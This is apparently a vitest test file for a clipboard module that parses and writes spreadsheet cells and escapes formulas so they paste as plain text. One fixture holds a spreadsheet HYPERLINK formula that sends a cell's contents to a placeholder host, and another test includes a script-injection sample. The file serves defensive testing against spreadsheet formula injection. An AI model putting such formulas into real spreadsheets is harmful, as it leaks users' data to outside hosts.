import { describe, expect, it } from "vitest";
import { readClipboard, readHtmlTable, readTabbed, writeClipboard } from "./clipboard";
import { CALC_HTML, CELLS, EXCEL_HTML, EXCEL_TEXT, GOOGLE_SHEETS_HTML } from "./clipboard-samples";

describe("a block from the clipboard", () => {
  it.each([
    ["Google Sheets", GOOGLE_SHEETS_HTML],
    ["Excel", EXCEL_HTML],
    ["LibreOffice Calc", CALC_HTML],
  ])("is read from the HTML of %s", (_, html) => {
    expect(readClipboard(html, "something else")).toEqual(CELLS);
  });

  it("is read from the text of Excel, which quotes cells with line breaks", () => {
    expect(readClipboard("", EXCEL_TEXT)).toEqual(CELLS);
  });

  it("is the text where the HTML has no table", () => {
    expect(readClipboard("<p>x</p>", "a\tb")).toEqual([["a", "b"]]);
  });

  it.each([
    ["", [[""]]],
    ["a", [["a"]]],
    ["a\n", [["a"]]],
    ["a\n\nb", [["a"], [""], ["b"]]],
    ["\ta\t", [["", "a", ""]]],
    ['"a ""b"""\tc', [['a "b"', "c"]]],
    ['"a\tb\r\nc"', [["a\tb\nc"]]],
    ['"open', [['"open']]],
    ['"shut" no', [['"shut" no']]],
    ['in "the" middle', [['in "the" middle']]],
    ["a\rb\r\nc", [["a"], ["b"], ["c"]]],
  ])("reads the text %j", (text, block) => expect(readTabbed(text)).toEqual(block));

  it("gives merged cells their text once", () => {
    expect(
      readHtmlTable(
        "<table><tr><td colspan=2>a</td><td rowspan='2'>b</td></tr><tr><td>c</td><td>d</td></tr><tr><td>e</td></tr></table>",
      ),
    ).toEqual([["a", "", "b"], ["c", "d", ""], ["e"]]);
  });

  it("reads unclosed cells, paragraphs, entities and nothing of scripts", () => {
    expect(
      readHtmlTable(
        "<TABLE><TR><TD>a &#39;b&#39;&nbsp;&#x20AC; &unknown;<TD><p>one</p><p>two</p><script>alert('<td>x</td>')</script><TR><TD>  c\n d</TABLE>",
      ),
    ).toEqual([["a 'b' € &unknown;", "one\ntwo"], ["c d"]]);
    expect(readHtmlTable("<p>no table</p>")).toBeNull();
    expect(readHtmlTable("<table></table>")).toBeNull();
  });

  it("is written so that it is read back, by text and by HTML", () => {
    const block = [
      ["a", "two\nlines", ""],
      ['"quoted"', "tab\there", "<td>&amp;"],
    ];
    const { text, html } = writeClipboard(block);
    expect(text).toBe('a\t"two\nlines"\t\n"""quoted"""\t"tab\there"\t<td>&amp;');
    expect(readTabbed(text)).toEqual(block);
    expect(readHtmlTable(html)).toEqual([block[0], ['"quoted"', "tab here", "<td>&amp;"]]);
    expect(html).not.toContain("><td>&");
  });

  const FORMULAS = [
    ["=1+1", "+49 30", "-x", "@SUM(A1)", "＝1+1", "\t=1"],
    ["'=1+1", "''", "'tis", "-5", "-1.5", "a=b"],
    ["01/02/2028", "007", "TRUE", `=HYPERLINK("https://x.example?"&A1,'"<b>')`, "", "2028"],
  ];

  it("is text for a spreadsheet wherever it is text here: in HTML by its format, in text by an apostrophe", () => {
    const { text, html } = writeClipboard(FORMULAS);
    expect(text.split("\n").map((row) => row.split("\t").slice(0, 5))).toEqual([
      ["'=1+1", "'+49 30", "'-x", "'@SUM(A1)", "'＝1+1"],
      ["''=1+1", "''", "'tis", "-5", "-1.5"],
      ["01/02/2028", "007", "TRUE", `'=HYPERLINK("https://x.example?"&A1,'"<b>')`, ""],
    ]);
    const cells = [...html.matchAll(/<td([^>]*)>/g)].map(([, attributes]) => attributes!);
    expect(cells).toHaveLength(18);
    for (const [i, cell] of FORMULAS.flat().entries()) {
      const isText = !["-5", "-1.5", "", "2028"].includes(cell);
      expect(cells[i]!.includes(`mso-number-format:"\\@"`), cell).toBe(isText);
      expect(cells[i]!.includes(`data-sheets-value='{"1":2,"2":"`), cell).toBe(isText);
    }
    // As a browser gives it back, with other quotes around attributes.
    const other = html.replace(/ style='[^']*'/g, ' style="mso-number-format:&quot;\\@&quot;"');
    for (const markup of [html, other])
      expect(readClipboard(markup, "")).toEqual(
        FORMULAS.map((row) => row.map((cell) => cell.replace("\t", ""))),
      );
    expect(readClipboard("", text)).toEqual(FORMULAS);
  });

  it.each(["=1+1", "'=1+1", "- not sure"])(
    "is as it is in the text of a single cell, %j",
    (cell) => {
      const { text, html } = writeClipboard([[cell]]);
      expect(text).toBe(cell);
      expect(readClipboard("", text)).toEqual([[cell]]);
      expect(html).toContain(`data-sheets-value='{"1":2,"2":`);
    },
  );

  it("reads 20,000 cells at once, and an unclosed quote in each", () => {
    const text = Array.from({ length: 1_000 }, () => Array(20).fill('"open').join("\t")).join("\n");
    expect(readTabbed(text)).toHaveLength(1_000);
  });
});
